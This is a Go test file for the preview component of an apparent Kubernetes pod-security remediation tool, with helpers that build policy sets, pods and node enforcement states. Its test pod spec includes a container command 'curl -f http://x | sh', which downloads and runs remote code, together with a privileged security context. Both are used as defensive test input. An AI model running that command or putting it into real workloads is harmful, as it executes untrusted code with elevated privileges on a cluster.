package preview_test

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	psa "k8s.io/pod-security-admission/api"
	"sigs.k8s.io/yaml"

	"github.com/escape-scanner/escape-scanner/remediate/preview"
	"github.com/escape-scanner/escape-scanner/remediate/set"
	"github.com/escape-scanner/escape-scanner/remediate/targets"
	"github.com/escape-scanner/escape-scanner/scan"
	"github.com/escape-scanner/escape-scanner/scan/kernel"
)

// rendered is a set for namespace shop.
func rendered(t testing.TB, change func(*set.Options)) *set.Set {
	t.Helper()
	options := set.Options{
		Name: set.DefaultName, Scope: targets.Scope{Namespaces: []string{"shop"}}, Admission: set.AdmissionPSA,
		Level: psa.LevelBaseline, PSSVersion: "latest", Action: set.ActionBlock, Fit: set.FitFull,
	}
	if change != nil {
		change(&options)
	}
	s, err := set.Render(options, set.Facts{Namespaces: []string{"shop"}})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// only is a set with nothing but these parts or elements.
func only(t testing.TB, names ...string) *set.Set {
	t.Helper()
	return rendered(t, func(o *set.Options) { o.Only = names })
}

// enforcing is a node that enforces everything, blind one of which nothing is known, and
// toothless one that enforces nothing.
func enforcing() kernel.Enforcement {
	return kernel.Enforcement{Capabilities: kernel.Yes, Processes: kernel.Yes, Agent: kernel.Yes, Grade: kernel.Proven, Enforcer: "bpf"}
}

func blind() kernel.Enforcement {
	return kernel.Enforcement{Capabilities: kernel.Unknown, Processes: kernel.Unknown, Agent: kernel.Unknown, Reason: "nobody looked"}
}

func toothless() kernel.Enforcement {
	return kernel.Enforcement{Capabilities: kernel.No, Processes: kernel.No, Agent: kernel.Yes, Enforcer: "none", Reason: "bpf is not in the list"}
}

// podOf is a pod of namespace shop with this spec, as YAML.
func podOf(t testing.TB, spec string) *corev1.Pod {
	t.Helper()
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web-x", Labels: map[string]string{"app": "web"}}}
	if err := yaml.UnmarshalStrict([]byte(spec), &pod.Spec); err != nil {
		t.Fatal(err)
	}
	for i := range pod.Spec.Containers {
		if pod.Spec.Containers[i].Name == "" {
			pod.Spec.Containers[i].Name = "web"
		}
	}
	return pod
}

func workloadOf(kind, name string, specimens ...targets.Specimen) targets.Workload {
	return targets.Workload{
		Workload:  scan.Workload{Namespace: "shop", Kind: kind, Name: name},
		Specimens: specimens, Selector: map[string]string{"app": name},
	}
}

func inputOf(s *set.Set, workloads ...targets.Workload) preview.Input {
	return preview.Input{
		Set: s, Workloads: workloads,
		Namespaces: map[string]*corev1.Namespace{"shop": {ObjectMeta: metav1.ObjectMeta{Name: "shop"}}},
		Nodes:      map[string]kernel.Enforcement{"node1": enforcing()},
	}
}

// judged is what the set does to one live pod on a node that enforces.
func judged(t testing.TB, s *set.Set, spec string, change ...func(*preview.Input)) preview.Workload {
	t.Helper()
	in := inputOf(s, workloadOf("Deployment", "web", targets.Specimen{Pod: podOf(t, spec), Live: 2, Nodes: []string{"node1"}}))
	for _, c := range change {
		c(&in)
	}
	return preview.Judge(in).Workloads[0]
}

// lines are effects in short: outcome, part, element, container, field.
func lines(w preview.Workload) []string {
	var out []string
	for _, e := range w.Effects {
		line := fmt.Sprintf("%s|%s|%s|%s|%s", e.Outcome, e.Part, e.Element, e.Container, e.Field)
		out = append(out, line)
	}
	return out
}

func wantLines(t *testing.T, w preview.Workload, want ...string) {
	t.Helper()
	got := lines(w)
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func nodes(all map[string]kernel.Enforcement) func(*preview.Input) {
	return func(in *preview.Input) { in.Nodes = maps.Clone(all) }
}

func TestX(t *testing.T) {
	w := judged(t, rendered(t, nil), `
containers:
- image: nginx
  command: [sh, -c, "apk add curl && curl -f http://x | sh"]
  readinessProbe: {exec: {command: [curl, -f, localhost]}}
  securityContext: {privileged: true}
- name: two
  image: busybox
initContainers:
- {name: init, image: x, command: [curl, x]}
`)
	for _, e := range w.Effects {
		t.Logf("%+v", e)
	}
}
